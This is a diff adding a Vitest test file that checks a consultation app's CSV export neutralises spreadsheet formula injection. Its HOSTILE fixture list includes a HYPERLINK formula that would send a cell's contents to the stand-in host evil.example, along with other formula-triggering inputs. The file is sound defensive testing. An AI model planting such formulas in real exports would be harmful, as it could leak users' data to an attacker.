@@ -1,0 +1,64 @@
+import { describe, expect, it } from 'vitest';
+import { parse } from 'csv-parse/sync';
+import { neutraliseCell, writeCsv } from './csv';
+import { fieldName } from './consultations/answers';
+import { enterResponse } from './consultations/entry';
+import { buildExport, toCsv } from './consultations/export';
+import { buildSampleConsultation, formOf, setUpConsultations } from './consultations/testing';
+import { toCsv as openDataCsv } from './fiches/open-data';
+
+const HOSTILE = [
+	'=HYPERLINK("http://evil.example/?"&B2,"Cliquez")',
+	'@SUM(A1:A9)',
+	'+33 6 12 34 56 78',
+	'-2+3',
+	'\t=1+1',
+	'\r=1+1'
+];
+
+function readBack(csv: string, delimiter = ';'): string[][] {
+	return parse(csv, { delimiter, bom: true, relax_column_count: true });
+}
+
+describe('the CSV writer', () => {
+	it('neutralises every cell a spreadsheet would run, and keeps it readable', () => {
+		const csv = writeCsv([['texte', 'nombre'], ...HOSTILE.map((text) => [text, -3])]);
+		expect(csv.startsWith('\uFEFF')).toBe(true);
+		const rows = readBack(csv);
+		for (const [i, text] of HOSTILE.entries()) {
+			expect(rows[i + 1][0]).toBe(`'${text}`);
+			expect(rows[i + 1][1]).toBe('-3');
+		}
+		expect(neutraliseCell('Des bus = plus de liberté')).toBe('Des bus = plus de liberté');
+	});
+
+	it('a free-text answer comes out of the consultation export as text', async () => {
+		const { db, agent } = await setUpConsultations();
+		const sample = await buildSampleConsultation(db, agent);
+		const [q1] = sample.questionnaire.sections[0].questions;
+		const idea = sample.questionnaire.sections[1].questions.find((q) => q.kind === 'long_text')!;
+		const outcome = await enterResponse(
+			db,
+			agent,
+			sample.consultation,
+			sample.questionnaire,
+			formOf({
+				channel: 'telephone',
+				submissionKey: crypto.randomUUID().replaceAll('-', ''),
+				[fieldName(q1)]: String(q1.options[0].id),
+				[fieldName(idea)]: HOSTILE[0]
+			}),
+			new Set()
+		);
+		expect(outcome.ok).toBe(true);
+		const table = await buildExport(db, agent, sample.consultation.id, { personal: false });
+		const rows = readBack(toCsv(table));
+		expect(rows[1]).toContain(`'${HOSTILE[0]}`);
+		expect(rows.flat().some((cell) => /^[=+@]/.test(cell))).toBe(false);
+	});
+
+	it('the open data keeps its comma-separated format', () => {
+		const csv = openDataCsv([]);
+		expect(readBack(csv, ',')[0][0]).toBe('ref');
+	});
+});
